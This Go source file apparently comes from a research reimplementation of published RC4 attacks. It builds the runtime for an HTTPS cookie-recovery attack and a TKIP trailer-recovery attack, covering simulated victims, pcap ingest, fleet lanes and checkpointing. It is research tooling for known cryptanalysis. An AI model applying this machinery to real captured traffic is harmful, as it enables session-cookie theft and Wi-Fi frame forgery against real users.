// Package job is the one place that turns an attack job description into
// live attack state. Both of the paper's attacks (§5 TKIP, §6 HTTPS cookie)
// run the same loop in every deployment shape — capture, decode, check
// against the oracle — and every shape builds that loop's pieces here: the
// attack CLIs (offline, online and fleet-worker), the fleet coordinator,
// the attackd service and the experiments. Evidence can therefore differ
// between shapes only through where capture is called, never through how
// the job was built.
//
// The package owns the rules the shapes must agree on: the job
// description and its one table of defaults (Spec, Normalize), the §6.1
// request layout (CookieLayout), each attack's exact target (HTTPSVictim's
// key seeding; TKIPVictim and its TKIPTrailer layout), how that stream is
// written as a capture file (WriteCapture), the TKIP model-mode trailer
// (TrueTrailer), the stream-identity check on resume, and the rule that
// TKIP exact streams carry seed 0. Which snapshots a job may resume from or
// merge is the attack's own rule (online.Evidence.OpenShard).
//
// Model-mode evidence depends on where Runtime.CaptureTo is called: each
// call draws its sufficient statistics from
// cliutil.ContinuationSeed(seed, observed), so a call is never re-chunked
// here. The CLI offline path draws once, the online paths once per cadence
// point, the service once per granule, and fleet lanes from
// cliutil.LaneSeed. Exact-mode evidence does not depend on where calls
// fall: the live victim is one more trace source, so its records and
// frames fold through the same cookieattack and tkip TraceCollector batch
// that pcap ingest uses, and the CLIs advance it in bounded
// cliutil.CheckpointLoop chunks.
package job

import (
	"bytes"
	"errors"
	"fmt"
	"math/rand"
	"os"
	"os/signal"
	"syscall"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/fleet"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
	"rc4break/internal/rc4"
	"rc4break/internal/snapshot"
	"rc4break/internal/tkip"
	"rc4break/internal/tlsrec"
	"rc4break/internal/trace"
)

// Runtime binds a job to live attack state: the decoder/oracle pair the
// online loop drives, the capture function, and the evidence serializer
// checkpoints persist.
type Runtime struct {
	// Decoder is the attack's evidence: *cookieattack.Attack or
	// *tkip.Attack.
	Decoder online.Evidence
	// Oracle is *netsim.CookieServer or *tkip.TrailerOracle.
	Oracle online.Oracle
	// Unit names one observation in status lines: "records" or "frames".
	Unit string

	spec     Spec
	mode     string
	capture  func(target uint64) error
	simulate func(rng *rand.Rand, n uint64) error
	// exactFrom positions the exact victim at observation skip and returns
	// the capture function that folds its stream up to an absolute stream
	// position.
	exactFrom func(skip uint64) (func(target uint64) error, error)
	// ingest folds n observations of the trace files, starting at skip;
	// strict fails when the files cannot cover the range.
	ingest  func(skip, n uint64, strict bool) error
	summary func() string
}

// New builds the runtime for spec, resuming from evidence (a prior
// snapshot's bytes) when non-nil. Resumed evidence must come from the same
// configuration and, once it holds observations, from the same capture
// stream: the exact victim is fast-forwarded past what it holds, and model
// draws continue from its observation count.
func New(spec Spec, evidence []byte) (*Runtime, error) {
	rt, err := spec.build(evidence)
	if err != nil {
		return nil, err
	}
	want, stream := spec.stream(), rt.Decoder.CaptureStream()
	if rt.Observed() > 0 && *stream != want {
		return nil, fmt.Errorf("job: evidence stream is %s/seed %d, the job's is %s/seed %d",
			stream.Mode, stream.Seed, want.Mode, want.Seed)
	}
	*stream = want
	rt.spec, rt.mode = spec, want.Mode
	switch want.Mode {
	case "trace":
		rt.capture = func(target uint64) error {
			at := rt.Observed()
			return rt.ingest(at, target-at, false)
		}
	case "model":
		rt.capture = func(target uint64) error {
			// Each call derives its noise stream from the continuation
			// point, so a run resumed at any capture point draws exactly
			// as an uninterrupted one.
			at := rt.Observed()
			rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(spec.Seed, at)))
			return rt.simulate(rng, target-at)
		}
	case "exact":
		if rt.capture, err = rt.exactFrom(rt.Observed()); err != nil {
			return nil, err
		}
	default:
		return nil, fmt.Errorf("job: unknown mode %q (want model or exact)", spec.Mode)
	}
	return rt, nil
}

// Observed reports the observations folded into the evidence so far.
func (r *Runtime) Observed() uint64 { return r.Decoder.Observed() }

// CaptureTo advances the evidence to target observations (trace files may
// end short of it). A target at or below Observed is a no-op.
func (r *Runtime) CaptureTo(target uint64) error {
	if target <= r.Observed() {
		return nil
	}
	return r.capture(target)
}

// Evidence serializes the attack state as snapshot-envelope bytes.
func (r *Runtime) Evidence() ([]byte, error) {
	var buf bytes.Buffer
	err := r.Decoder.WriteSnapshot(&buf)
	return buf.Bytes(), err
}

// SaveFile durably writes the evidence snapshot to path.
func (r *Runtime) SaveFile(path string) error { return r.Decoder.WriteSnapshotFile(path) }

// Summary describes the capture collector's counters (live victim or
// trace files); empty for model captures.
func (r *Runtime) Summary() string {
	if r.mode == "model" {
		return ""
	}
	return r.summary()
}

// Checkpointed returns the capture function the CLIs drive. Model and
// trace captures run in one call each. Exact captures run under
// cliutil.CheckpointLoop in bounded chunks, so path (when set) is
// rewritten every `every` observations and flushed promptly on
// SIGINT/SIGTERM, which returns cliutil.ErrInterrupted.
func (r *Runtime) Checkpointed(path string, every uint64) func(target uint64) error {
	if r.mode != "exact" {
		return r.CaptureTo
	}
	return func(target uint64) error {
		return cliutil.CheckpointLoop{
			Target:    target,
			Path:      path,
			Every:     every,
			Unit:      r.Unit,
			Save:      func() error { return r.SaveFile(path) },
			Progress:  r.Observed,
			AdvanceTo: r.CaptureTo,
		}.Run()
	}
}

// Coordinator builds the fleet coordinator's side of the job from the
// normalized spec: the lane job workers are welcomed with (the spec's
// stream cut into lanes of laneRecords observations, stamped with the
// Fingerprint workers must present), the evidence pool lanes merge into
// (resumed from evidence when non-nil), the oracle, and the decode
// schedule. A pool merges many lane streams, so it carries no stream
// identity of its own.
func (s Spec) Coordinator(laneRecords uint64, evidence []byte) (fleet.Config, error) {
	rt, err := s.build(evidence)
	if err != nil {
		return fleet.Config{}, err
	}
	fp, err := fingerprint(rt.Decoder)
	if err != nil {
		return fleet.Config{}, err
	}
	var pool fleet.Pool
	if a, ok := rt.Decoder.(*tkip.Attack); ok {
		pool = &fleet.TKIPPool{Attack: a, Model: s.Model}
	} else {
		pool = &fleet.CookiePool{Attack: rt.Decoder.(*cookieattack.Attack)}
	}
	return fleet.Config{
		Job: fleet.JobSpec{Attack: s.Attack, Mode: s.Mode, Seed: s.Seed, Budget: s.Budget,
			LaneRecords: laneRecords, Fingerprint: fp},
		Pool:          pool,
		Oracle:        rt.Oracle,
		Cadence:       s.Cadence(),
		MaxCandidates: s.MaxCandidates,
	}, nil
}

// Fingerprint is the compatibility stamp fleet workers present to the
// coordinator: the cookie request layout's, or the TKIP model's.
func (s Spec) Fingerprint() ([16]byte, error) {
	rt, err := s.build(nil)
	if err != nil {
		return [16]byte{}, err
	}
	return fingerprint(rt.Decoder)
}

func fingerprint(d online.Evidence) ([16]byte, error) {
	if a, ok := d.(*tkip.Attack); ok {
		return a.Model.Fingerprint()
	}
	return d.(*cookieattack.Attack).Fingerprint(), nil
}

// CollectLane captures one leased fleet lane into fresh evidence stamped
// with the lease's stream identity and returns its snapshot bytes. A lane
// is a pure function of (job, lane), so a re-leased lane recaptures
// byte-identically: model lanes draw once from cliutil.LaneSeed, exact
// lanes replay the victim from the lane's absolute offset, and with Traces
// set exact lanes are carved strictly out of the capture files.
func (s Spec) CollectLane(fj fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
	s.Mode, s.Seed = fj.Mode, fj.Seed
	rt, err := s.build(nil)
	if err != nil {
		return nil, err
	}
	*rt.Decoder.CaptureStream() = lease.Stream
	switch {
	case fj.Mode == "model" && s.Traces != "":
		return nil, errors.New("job: capture files serve exact-mode lanes; a trace is one concrete stream, not a statistical model")
	case fj.Mode == "model":
		err = rt.simulate(rand.New(rand.NewSource(cliutil.LaneSeed(fj.Seed, lease.Lane))), lease.Records)
	case fj.Mode == "exact" && s.Traces != "":
		err = rt.ingest(lease.Start, lease.Records, true)
	case fj.Mode == "exact":
		var capture func(uint64) error
		if capture, err = rt.exactFrom(lease.Start); err == nil {
			err = capture(lease.Start + lease.Records)
		}
	default:
		return nil, fmt.Errorf("job: unknown fleet mode %q", fj.Mode)
	}
	if err != nil {
		return nil, err
	}
	return rt.Evidence()
}

// stream is the capture-stream identity evidence of this spec carries.
func (s Spec) stream() snapshot.StreamInfo {
	switch {
	case s.Traces != "":
		// A trace-fed stream is its file set: two ingests of the same
		// files share an identity, so merging them is refused.
		return snapshot.StreamInfo{Mode: "trace", Seed: cliutil.TraceStreamSeed(s.traceFiles())}
	case s.Attack == "tkip" && s.Mode == "exact":
		// The exact stream is the demo session's TSC sequence; the seed
		// plays no part in it, so every exact capture shares one identity.
		return snapshot.StreamInfo{Mode: "exact"}
	}
	return snapshot.StreamInfo{Mode: s.Mode, Seed: s.Seed}
}

// unit names one observation of the spec's attack in status lines.
func (s Spec) unit() string {
	if s.Attack == "tkip" {
		return "frames"
	}
	return "records"
}

// build makes the attack state with no capture stream attached. Evidence,
// when non-nil, is a prior snapshot opened and merged through the attack's
// OpenShard, the check -merge and fleet uploads also go through; the
// runtime then carries that snapshot's stream identity.
func (s Spec) build(evidence []byte) (*Runtime, error) {
	var rt *Runtime
	var err error
	switch s.Attack {
	case "cookie":
		rt, err = s.buildCookie()
	case "tkip":
		rt, err = s.buildTKIP()
	default:
		return nil, fmt.Errorf("job: unknown attack %q (want cookie or tkip)", s.Attack)
	}
	if err != nil {
		return nil, err
	}
	rt.Unit = s.unit()
	if evidence == nil {
		return rt, nil
	}
	sh, err := rt.Decoder.OpenShard(evidence)
	if err != nil {
		return nil, fmt.Errorf("job: resumed evidence: %w", err)
	}
	*rt.Decoder.CaptureStream() = sh.Stream
	return rt, sh.Merge()
}

// CookieLayout builds the §6.1 attack configuration for secret: the
// aligned request (cookie first in the header, padding injected after) and
// the cookieattack.Config that reads it, with both ABSAB gap ranges at the
// paper's 128 and the RFC 6265 cookie charset.
func CookieLayout(secret string) (cookieattack.Config, httpmodel.Request, error) {
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
	if err != nil {
		return cookieattack.Config{}, req, err
	}
	return cookieattack.Config{
		CookieLen:   len(secret),
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	}, req, nil
}

// HTTPSVictim is the exact-mode cookie victim for seed: its TLS master
// secret derives from the seed, so a stream is replayable from its seed
// alone.
func HTTPSVictim(seed int64, req httpmodel.Request) (*netsim.HTTPSVictim, error) {
	master := make([]byte, 48)
	rand.New(rand.NewSource(seed)).Read(master)
	return netsim.NewHTTPSVictim(master, req)
}

// TKIPVictim is the exact-mode TKIP victim: the demo session
// retransmitting the demo payload. Its frames are a pure function of the
// TSC sequence, so every exact TKIP stream is the same one.
func TKIPVictim() *netsim.WiFiVictim {
	return netsim.NewWiFiVictim(tkip.DemoSession(), tkip.DemoPayload)
}

// TKIPTrailer is the demo TKIP attack's trailer layout: the 1-based
// keystream positions of the MIC‖ICV after the victim's MSDU. Every TKIP
// attack targets them, and a per-TSC model must cover the last one.
func TKIPTrailer() []int { return tkip.TrailerPositions(len(TKIPVictim().MSDU)) }

// WriteCapture writes the first n observations of the spec's exact stream
// to path as a capture file and returns the file's size: the sim → pcap
// half of the trace round trip, and the way trace shards for offline or
// fleet ingest are made. Cookie records from HTTPSVictim(Seed) go out as
// Ethernet/TCP segments of the HTTPS flow; TKIP frames from TKIPVictim go
// out as radiotap 802.11 and need no model. The extension picks the
// container, as trace.WriteFile does, and the file appears under path only
// once complete: a failed write, or one stopped by SIGINT/SIGTERM (which
// returns cliutil.ErrInterrupted), leaves nothing there. Served back
// through Traces, the file yields the live exact stream's evidence byte
// for byte.
func (s Spec) WriteCapture(path string, n uint64) (int64, error) {
	var link uint32
	var write func(trace.PacketWriter) error
	switch s.Attack {
	case "cookie":
		_, req, err := CookieLayout(s.Secret)
		if err != nil {
			return 0, err
		}
		victim, err := HTTPSVictim(s.Seed, req)
		if err != nil {
			return 0, err
		}
		link = trace.LinkTypeEthernet
		write = func(pw trace.PacketWriter) error {
			sw, err := netsim.NewStreamWriter(pw, link)
			if err != nil {
				return err
			}
			return victim.WriteTrace(sw, n)
		}
	case "tkip":
		victim := TKIPVictim()
		link = trace.LinkTypeRadiotap
		write = func(pw trace.PacketWriter) error {
			fw, err := netsim.NewFrameWriter(pw, link, victim.Session)
			if err != nil {
				return err
			}
			return victim.WriteTrace(fw, n)
		}
	default:
		return 0, fmt.Errorf("job: unknown attack %q (want cookie or tkip)", s.Attack)
	}
	// SIGINT or SIGTERM fails the next packet write, and trace.WriteFile
	// then leaves nothing under path.
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
	defer signal.Stop(sig)
	err := trace.WriteFile(path, link, func(pw trace.PacketWriter) error {
		return write(interruptible{pw, sig})
	})
	if errors.Is(err, cliutil.ErrInterrupted) {
		fmt.Printf("      interrupted: nothing written to %s\n", path)
	}
	if err != nil {
		return 0, err
	}
	info, err := os.Stat(path)
	if err != nil {
		return 0, err
	}
	return info.Size(), nil
}

// interruptible is a PacketWriter whose writes fail with
// cliutil.ErrInterrupted once a signal is buffered in sig.
type interruptible struct {
	trace.PacketWriter
	sig chan os.Signal
}

// WritePacket implements trace.PacketWriter.
func (w interruptible) WritePacket(data []byte) error {
	if len(w.sig) > 0 {
		return cliutil.ErrInterrupted
	}
	return w.PacketWriter.WritePacket(data)
}

func (s Spec) buildCookie() (*Runtime, error) {
	cfg, req, err := CookieLayout(s.Secret)
	if err != nil {
		return nil, err
	}
	attack, err := cookieattack.New(cfg)
	if err != nil {
		return nil, err
	}
	attack.Workers = s.Workers
	rt := &Runtime{
		Decoder: attack,
		Oracle:  &netsim.CookieServer{Secret: []byte(s.Secret)},
		simulate: func(rng *rand.Rand, n uint64) error {
			return attack.SimulateStatistics(rng, []byte(s.Secret), n)
		},
	}
	var st cookieattack.TraceStats
	rt.summary = func() string {
		return fmt.Sprintf("capture: %d packets, %d TLS records (%d matched, %d other), %d flows abandoned, %.1f MB of capture payload",
			st.Packets, st.Records, st.Matched, st.OtherRecords, st.DeadFlows, float64(st.Bytes)/(1<<20))
	}
	wantLen := len(cfg.Plaintext) + tlsrec.MACSize
	rt.ingest = func(skip, n uint64, strict bool) (err error) {
		st, err = cookieattack.CollectTraceFiles(attack, wantLen, s.traceFiles(), skip, n, strict)
		return err
	}
	rt.exactFrom = func(skip uint64) (func(uint64) error, error) {
		victim, err := HTTPSVictim(s.Seed, req)
		if err != nil {
			return nil, err
		}
		victim.Skip(skip) // raw PRGA fast-forward: no HMAC or record assembly
		// The victim's connection is one more trace flow: its records go
		// through the §6.3 scanner and the batched fold pcap ingest uses.
		c := &cookieattack.TraceCollector{Attack: attack, WantLen: wantLen}
		return func(target uint64) error {
			defer func() { st = c.Stats }()
			for c.Max = target - skip; !c.Done(); {
				if err := c.Feed(victim.SendRequest()); err != nil {
					return err
				}
			}
			return c.Flush()
		}, nil
	}
	return rt, nil
}

func (s Spec) buildTKIP() (*Runtime, error) {
	if s.Model == nil {
		return nil, errors.New("job: tkip jobs need a trained model")
	}
	victim := TKIPVictim()
	session := victim.Session
	attack, err := tkip.NewAttack(s.Model, TKIPTrailer())
	if err != nil {
		return nil, err
	}
	attack.Workers = s.Workers
	trailer := TrueTrailer(session, victim.MSDU)
	rt := &Runtime{
		Decoder: attack,
		Oracle: &tkip.TrailerOracle{
			DA: session.DA, SA: session.SA, MSDU: victim.MSDU,
			Confirm: netsim.ForgeryConfirm(session, victim.MSDU),
		},
		simulate: func(rng *rand.Rand, n uint64) error {
			return attack.SimulateCaptures(rng, trailer, n)
		},
	}
	var st tkip.TraceStats
	rt.summary = func() string {
		return fmt.Sprintf("capture: %d packets, %d TKIP frames (%d matched, %d dup, %d frag, %d other-length, %d skipped), %.1f MB of capture payload",
			st.Packets, st.Frames, st.Matched, st.Duplicates, st.Fragmented, st.OtherLength, st.Skipped, float64(st.Bytes)/(1<<20))
	}
	rt.ingest = func(skip, n uint64, strict bool) (err error) {
		st, err = tkip.CollectTraceFiles(attack, victim.FrameLen(), s.traceFiles(), skip, n, strict)
		return err
	}
	rt.exactFrom = func(skip uint64) (func(uint64) error, error) {
		victim.Skip(skip) // frames are independently keyed by TSC: O(1)
		// The victim's transmissions go through the §5.4 length and TSC
		// filter and the batched fold pcap ingest uses.
		c := &tkip.TraceCollector{Attack: attack, WantLen: victim.FrameLen()}
		return func(target uint64) error {
			defer func() { st = c.Stats }()
			for c.Max = target - skip; !c.Done(); {
				c.Offer(victim.Transmit())
			}
			c.Flush()
			return nil
		}, nil
	}
	return rt, nil
}

// TrueTrailer decrypts one encapsulation with the real key to obtain the
// plaintext MIC‖ICV of msdu, which model-mode capture feeds the sampler.
func TrueTrailer(s *tkip.Session, msdu []byte) []byte {
	f := s.Encapsulate(msdu, 0)
	key := tkip.MixKey(s.TK, s.TA, 0)
	plain := make([]byte, len(f.Body))
	rc4.MustNew(key[:]).XORKeyStream(plain, f.Body)
	return plain[len(msdu):]
}
